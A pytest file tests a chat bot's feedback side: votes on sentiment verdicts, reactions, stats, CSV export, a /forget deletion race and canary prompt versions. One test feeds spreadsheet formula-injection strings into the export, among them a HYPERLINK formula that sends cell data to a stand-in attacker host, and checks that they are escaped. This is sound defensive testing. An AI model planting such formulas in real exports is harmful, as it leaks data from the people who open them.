"""The pipeline's feedback side: which votes are accepted, and what they record.

Votes never touch the model, so the runtime here is a real, never-started ModelRuntime."""

from __future__ import annotations

import asyncio
import dataclasses
import threading
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from bot.config import Settings
from bot.llm.runtime import ModelRuntime
from bot.llm.types import Verdict
from bot.prompts import PromptVersion, load_directory
from bot.service import CORRECT, WRONG, IncomingText, Service, UserRateLimiter
from bot.store.queries import Interaction, NewInteraction, Store

ROOT = Path(__file__).resolve().parents[2]
LABELS3 = {"pos": 0.6, "neu": 0.3, "neg": 0.1}


@pytest.fixture
async def service(tmp_path: Path) -> AsyncIterator[Service]:
    settings = Settings()
    store = await Store.open(tmp_path / "s.db")
    svc = Service(settings, store, ModelRuntime(tmp_path / "unused.gguf", settings.model),
                  load_directory(ROOT / "prompts"))
    await svc.start()
    yield svc
    await store.close()


async def _shown(service: Service, message_id: int, probs: dict[str, float],
                 chat: int = 10) -> Interaction:
    inter, _ = await service.store.insert_interaction(NewInteraction(
        chat_id=chat, user_id=5, message_id=message_id, text="t", version_id="v1-zh",
        arm="active", bucket=1, label=max(probs, key=probs.__getitem__), probabilities=probs))
    await service.note_messages(inter.id, chat, "verdict", [1000 + message_id])
    return inter


async def test_wrong_with_two_labels_names_the_other_label(service: Service) -> None:
    inter = await _shown(service, 1, {"正面": 0.8, "负面": 0.2})
    out = await service.record_vote(inter.id, 5, WRONG, chat_id=10, message_id=1001)
    assert out.ok and not out.ask_label and out.vote is not None
    assert (out.vote.correct, out.vote.correct_label) == (False, "负面")


async def test_wrong_with_three_labels_asks_for_the_right_one(service: Service) -> None:
    inter = await _shown(service, 2, LABELS3)
    out = await service.record_vote(inter.id, 5, WRONG, chat_id=10, message_id=1002)
    assert out.ok and out.ask_label and out.vote is not None and out.vote.correct_label is None
    picked = await service.record_vote(inter.id, 5, 2, chat_id=10, message_id=1002)
    assert picked.vote is not None
    assert (picked.vote.correct, picked.vote.correct_label) == (False, "neg")
    # Picking the predicted label from the list means the verdict was right after all.
    same = await service.record_vote(inter.id, 5, 0, chat_id=10, message_id=1002)
    assert same.vote is not None and (same.vote.correct, same.vote.correct_label) == (True, None)
    assert len(await service.store.votes_for(inter.id)) == 1


async def test_wrong_clicked_again_keeps_the_picked_label(service: Service) -> None:
    inter = await _shown(service, 5, LABELS3)
    for choice in (WRONG, 2, WRONG):  # a double tap on ❌ after picking the right label
        out = await service.record_vote(inter.id, 5, choice, chat_id=10, message_id=1005)
        assert out.ok
    (vote,) = await service.store.votes_for(inter.id)
    assert (vote.correct, vote.correct_label, vote.changes) == (False, "neg", 1)
    # Changing one's mind still works both ways.
    await service.record_vote(inter.id, 5, CORRECT, chat_id=10, message_id=1005)
    await service.record_vote(inter.id, 5, WRONG, chat_id=10, message_id=1005)
    (vote,) = await service.store.votes_for(inter.id)
    assert (vote.correct, vote.correct_label, vote.changes) == (False, None, 3)


async def test_votes_are_checked_against_what_was_shown(service: Service) -> None:
    inter = await _shown(service, 3, LABELS3)
    cases: list[tuple[int, str | int, int, int, str]] = [
        (inter.id + 100, CORRECT, 10, 1003, "unknown interaction"),
        (inter.id, CORRECT, 11, 1003, "not a verdict of this chat"),
        (inter.id, CORRECT, 10, 1999, "another message"),
        (inter.id, 7, 10, 1003, "invalid choice"),
    ]
    for iid, choice, chat, message, reason in cases:
        out = await service.record_vote(iid, 5, choice, chat_id=chat, message_id=message)
        assert not out.ok and reason in out.reason
    assert await service.store.votes_for(inter.id) == []


async def test_reactions_only_count_on_the_bots_messages(service: Service) -> None:
    inter = await _shown(service, 4, {"正面": 0.8, "负面": 0.2})
    await service.note_messages(inter.id, 10, "reply", [2004])
    assert await service.record_reaction(10, 9999, 5, ["👍"]) is None
    stored = await service.record_reaction(10, 2004, 5, ["👎"])
    assert stored is not None and (stored.kind, stored.polarity) == ("reply", -1)
    assert await service.record_reaction(10, 2004, 5, []) is None
    assert await service.store.reactions_for(inter.id) == []


async def test_stats_and_export(service: Service) -> None:
    inter = await _shown(service, 5, {"正面": 0.8, "负面": 0.2})
    await service.record_vote(inter.id, 5, CORRECT, chat_id=10, message_id=1005)
    (report,) = [r for r in await service.stats() if r.version_id == "v1-zh"]
    assert (report.state, report.verdicts, report.accuracy.votes) == ("active", 1, 1)
    assert report.accuracy.low < 1.0 == report.accuracy.high
    data, rows = await service.export_votes_csv()
    assert rows == 1 and data.decode("utf-8-sig").splitlines()[0].startswith("interaction_id,")


async def test_the_csv_export_keeps_user_text_from_running_as_formulas(
        service: Service) -> None:
    import csv
    import io

    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1+1", "fine text", "3-1 = 2"]
    for i, text in enumerate(texts):
        inter, _ = await service.store.insert_interaction(NewInteraction(
            chat_id=10, user_id=5, message_id=100 + i, text=text, version_id="v1-zh",
            arm="active", bucket=1, label="正面", probabilities={"正面": 0.8, "负面": 0.2}))
        await service.note_messages(inter.id, 10, "verdict", [2000 + i])
        await service.record_vote(inter.id, 5, CORRECT, chat_id=10, message_id=2000 + i)
    data, _ = await service.export_votes_csv()
    cells = [row["text"] for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))]
    assert cells == ["'" + t for t in texts[:5]] + texts[5:]


async def test_forget_waits_for_the_users_message_in_flight(tiny_gguf: Path,
                                                            tmp_path: Path) -> None:
    # /forget sent while the user's last message is still with the model: that message
    # must not be stored after the user was told everything is deleted.
    settings = Settings()
    settings.model = dataclasses.replace(settings.model, n_threads=2, n_ctx=1024)
    store = await Store.open(tmp_path / "f.db")
    runtime = ModelRuntime(tiny_gguf, settings.model)
    await runtime.start()
    svc = Service(settings, store, runtime, load_directory(ROOT / "prompts"))
    await svc.start()
    release = threading.Event()
    busy = asyncio.create_task(runtime.call(lambda _backend: release.wait(10), timeout=20))
    try:
        message = asyncio.create_task(svc.classify(IncomingText(
            chat_id=7, user_id=7, message_id=1, text="secret text")))
        await asyncio.sleep(0.2)
        forget = asyncio.create_task(svc.forget_user(7))
        await asyncio.sleep(0.2)
        assert not message.done() and not forget.done()
        release.set()
        classified = await message
        assert classified is not None
        result = await forget
        assert result.interactions == 1
        assert await store.db.fetchall("SELECT text FROM interactions") == []
        # The handler goes on to note its verdict message: nothing to attach it to any more.
        await svc.note_messages(classified.interaction.id, 7, "verdict", [50])
        assert await store.db.fetchall("SELECT * FROM bot_messages") == []
        assert len(svc.user_locks) == 0
    finally:
        release.set()
        await busy
        await runtime.close()
        await store.close()


def test_a_refused_user_is_told_once_per_window() -> None:
    now = [0.0]
    limiter = UserRateLimiter(1, 10.0, clock=lambda: now[0])
    assert limiter.allow(1) and not limiter.allow(1)
    assert limiter.warn_once(1) and not limiter.warn_once(1) and limiter.warn_once(2)
    now[0] = 10.0
    assert limiter.warn_once(1)



@pytest.mark.parametrize(("scorer", "stored"), [
    ("gguf:qwen2.5-0.5b-instruct-q8_0.gguf:1a2b3c4d5e6f7a8b",
     "gguf:qwen2.5-0.5b-instruct-q8_0.gguf:1a2b3c4d5e6f7a8b"),
    ("remote:qwen2.5-7b-instruct", "remote:qwen2.5-7b-instruct"),
    ("", None),  # a runtime that does not say: unknown, like the rows from before 007
])
async def test_each_interaction_records_the_scorer_of_its_verdict(
        service: Service, monkeypatch: pytest.MonkeyPatch, scorer: str,
        stored: str | None) -> None:
    async def classify(version: PromptVersion, text: str, **_: object) -> Verdict:
        return Verdict(label="正面", probabilities={"正面": 0.8, "负面": 0.2},
                       version_id=version.id, latency_ms=5.0, scorer=scorer)

    monkeypatch.setattr(service.runtime, "classify", classify)
    done = await service.classify(IncomingText(chat_id=10, user_id=5, message_id=1, text="t"))
    assert done is not None and done.interaction.scorer == stored
    again = await service.store.find_interaction(10, 1)
    assert again is not None and again.scorer == stored
    # No verdict computed (a reply only): no scorer either.
    reply_only = await service.classify(
        IncomingText(chat_id=10, user_id=5, message_id=2, text="t"), with_verdict=False)
    assert reply_only is not None and reply_only.interaction.scorer is None


async def test_a_version_another_replica_put_in_canary_is_loaded_from_the_shared_folder(
        tmp_path: Path) -> None:
    import dataclasses
    import shutil

    from bot import versions
    from bot.config import load_settings
    from bot.prompts import write_version

    folder = tmp_path / "prompts"
    shutil.copytree(ROOT / "prompts", folder)
    settings = load_settings(None, env={}, overrides={"prompts.directory": str(folder)})
    store = await Store.open(tmp_path / "r.db")
    runtime = ModelRuntime(tmp_path / "unused.gguf", settings.model)
    this = Service(settings, store, runtime, load_directory(folder))
    try:
        await this.start()
        # Replica B mines a candidate: writes its file and puts it in canary for everyone.
        base = this.versions["v1-zh"]
        mined = dataclasses.replace(base, id="v1-zh-mined", parent="v1-zh")
        write_version(mined, folder)
        catalog = {**this.versions, mined.id: load_directory(folder)[mined.id]}
        await versions.set_canary(store.db, mined.id, 100.0, catalog, actor="loop",
                                  reason="mined on replica B")
        assert mined.id not in this.versions
        version, assignment = await this.route(12345)
        assert (version.id, assignment.version_id) == (mined.id, mined.id)
    finally:
        await store.close()
